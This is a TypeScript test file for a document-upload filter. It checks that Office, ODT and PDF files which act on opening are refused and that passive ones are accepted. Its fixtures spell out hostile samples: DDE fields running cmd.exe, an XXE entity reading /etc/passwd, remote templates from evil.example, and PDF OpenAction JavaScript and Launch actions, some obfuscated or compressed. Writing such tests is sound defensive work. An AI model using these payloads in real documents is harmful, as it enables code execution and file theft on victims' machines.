// Documents that do something by themselves when they are opened are refused; those that only do so after a click are not.
import { deflateSync } from 'node:zlib'

import { describe, expect, test } from 'vitest'

import { takeDocument } from '#server/platform/files/document-content.ts'

import { office, openDocument, pdf } from '../sample-files.ts'

const openXml = 'application/vnd.openxmlformats-officedocument.'
/** The media type that is recognised, or the status of the refusal. */
const verdict = async (bytes: Uint8Array): Promise<string | number> =>
  await takeDocument(new File([new Uint8Array(bytes)], 'file')).then(
    ({ media_type }) => media_type,
    (error: unknown) => (error as { status: number }).status,
  )

/** The relationships of one part, with one that leads out of the file. */
const related = (name: string, type: string, target: string) => ({
  name,
  data: `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
})
/** A PDF with this in its catalogue, and these objects. */
const acting = (catalogue: string, objects = '') =>
  Buffer.from(pdf().toString('latin1').replace('/Catalog', `/Catalog${catalogue}`).replace('xref\n', `${objects}\nxref\n`), 'latin1')
/** A compressed stream that contains this object. */
function packed(id: number, object: string): string {
  const head = `${id} 0 `
  const stream = deflateSync(`${head}${object}`).toString('latin1')
  return `7 0 obj<</Type/ObjStm/N 1/First ${head.length}/Filter/FlateDecode/Length ${stream.length}>>stream\n${stream}\nendstream endobj`
}

describe('what is refused', () => {
  test.each<[string, () => Buffer]>([
    [
      'a DOCX whose template lies elsewhere',
      () => office('docx', [related('word/_rels/settings.xml.rels', 'attachedTemplate', 'https://evil.example/a.dotm')]),
    ],
    [
      'a DOCX with a picture from a share',
      () => office('docx', [related('word/_rels/document.xml.rels', 'image', '\\\\evil.example\\a.png')]),
    ],
    [
      'a PPTX with an object from elsewhere',
      () => office('pptx', [related('ppt/slides/_rels/slide1.xml.rels', 'oleObject', 'https://evil.example/a')]),
    ],
    [
      'a DOCX with a command in a field',
      () =>
        office('docx', [
          { name: 'word/header1.xml', data: '<w:hdr><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\cmd.exe</w:instrText></w:hdr>' },
        ]),
    ],
    [
      'an XLSX with a command in a link',
      () =>
        office('xlsx', [{ name: 'xl/externalLinks/externalLink1.xml', data: '<externalLink><ddeLink ddeService="cmd"/></externalLink>' }]),
    ],
    [
      'an XLSX with a type of document',
      () =>
        office('xlsx', [
          { name: 'xl/sharedStrings.xml', data: '<?xml version="1.0"?><!DOCTYPE sst SYSTEM "http://evil.example/a.dtd"><sst/>' },
        ]),
    ],
    [
      'an XLSX with entities',
      () =>
        office('xlsx', [{ name: 'xl/worksheets/sheet1.xml', data: '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>' }]),
    ],
    [
      'an XLSX with entities in UTF-16',
      () => office('xlsx', [{ name: 'xl/styles.xml', data: Buffer.from('\ufeff<!DOCTYPE a [<!ENTITY b "c">]><a/>', 'utf16le') }]),
    ],
    [
      'an ODT that calls a script',
      () => openDocument('text', [{ name: 'content.xml', data: '<a xlink:href="vnd.sun.star.script:Standard.Module1.Main"/>' }]),
    ],
    ['a PDF that runs a script when it is opened', () => acting('/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>')],
    ['a PDF that starts a program', () => acting('/OpenAction<</Type/Action/S /Launch/F(cmd.exe)>>')],
    ['a PDF whose script is spelled by codes', () => acting('/OpenAction 9 0 R', '9 0 obj<</S/J#61vaScript/J#53 (x)>>endobj')],
    ['a PDF that opens an address', () => acting('/OpenAction 9 0 R', '9 0 obj<</S/URI/URI(https://evil.example)>>endobj')],
    ['a PDF whose action is compressed', () => acting('/OpenAction 9 0 R', packed(9, '<</S/Launch/F(cmd.exe)>>'))],
    [
      'a PDF that opens an address from a compressed action',
      () => acting('/OpenAction 9 0 R', packed(9, '<</S/URI/URI(https://evil.example)>>')),
    ],
    ['a PDF that runs a script when a page is shown', () => acting('', '9 0 obj<</AA<</O<</S/JavaScript/JS 8 0 R>>>>>>endobj')],
  ])('%s', async (_, make) => {
    expect(await verdict(make())).toBe(415)
  })
})

describe('what is taken', () => {
  test.each([
    [
      'a DOCX with a link',
      () => office('docx', [related('word/_rels/document.xml.rels', 'hyperlink', 'https://starif.example/')]),
      `${openXml}wordprocessingml.document`,
    ],
    [
      'an XLSX that reads another',
      () => office('xlsx', [related('xl/externalLinks/_rels/externalLink1.xml.rels', 'externalLinkPath', 'file:///C:/a.xlsx')]),
      `${openXml}spreadsheetml.sheet`,
    ],
    [
      'a DOCX with a date and a number of pages in fields',
      () =>
        office('docx', [
          { name: 'word/footer1.xml', data: '<w:ftr><w:instrText> PAGE </w:instrText><w:fldSimple w:instr=" DATE \\@ dd "/></w:ftr>' },
        ]),
      `${openXml}wordprocessingml.document`,
    ],
    ['a PDF that opens at a page', () => acting('/OpenAction[3 0 R/Fit]'), 'application/pdf'],
    [
      'a PDF that opens at a page by an action, and has links',
      () => acting('/OpenAction 9 0 R', '9 0 obj<</S/GoTo/D[3 0 R/Fit]>>endobj 8 0 obj<</S/URI/URI(https://starif.example)>>endobj'),
      'application/pdf',
    ],
    ['a PDF with a page about /S /JavaScript', () => pdf('/S /JavaScript /JS 1'), 'application/pdf'],
  ])('%s', async (_, make, media_type) => {
    expect(await verdict(make())).toBe(media_type)
  })
})
